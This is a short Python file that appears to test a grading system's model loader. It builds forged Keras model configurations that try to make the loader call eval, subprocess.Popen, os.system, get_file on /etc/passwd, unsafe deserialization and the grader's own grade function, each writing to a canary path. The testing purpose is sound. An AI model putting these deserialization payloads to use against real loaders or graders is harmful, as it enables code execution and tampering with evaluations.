# Forged models that name functions and classes to be called in the grader: get_file, eval, subprocess, this package's.
# attacks: tiny
import json

CALLS = [
    ("keras.utils", "get_file", {"fname": "pwned", "origin": "file:///etc/passwd", "cache_dir": "@CANARY@"}),
    (
        "keras.src.utils.file_utils",
        "get_file",
        {"fname": "pwned", "origin": "file:///etc/passwd", "cache_dir": "@CANARY@"},
    ),
    ("keras.config", "enable_unsafe_deserialization", {}),
    ("keras.models", "load_model", {"filepath": "@CANARY@/x.keras"}),
    ("builtins", "eval", {"source": "open('@CANARY@/pwned', 'w')"}),
    ("ccv.grading.check", "grade", {"directory": "@LAB@", "submission": "@CANARY@"}),
    ("subprocess", "Popen", {"args": ["touch", "@CANARY@/pwned"]}),
    ("keras.src.saving.serialization_lib.os", "system", {"command": "touch @CANARY@/pwned"}),
]


def model(module, name, config, kind):
    call = {"module": module, "class_name": name, "config": config, "registered_name": name}
    if kind == "function":
        call = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    layer = {"module": "keras.layers", "class_name": "Activation", "config": {"activation": call, "name": "a"}}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer, call]}}


def tiny():
    models = [model(*call, kind) for call in CALLS for kind in ("class", "function")]
    items = [{"model": json.dumps(m), "weights": []} for m in models]
    forge(packed(status="ok", value=items[0]))
    forge(packed(status="ok", value={"list": items}))
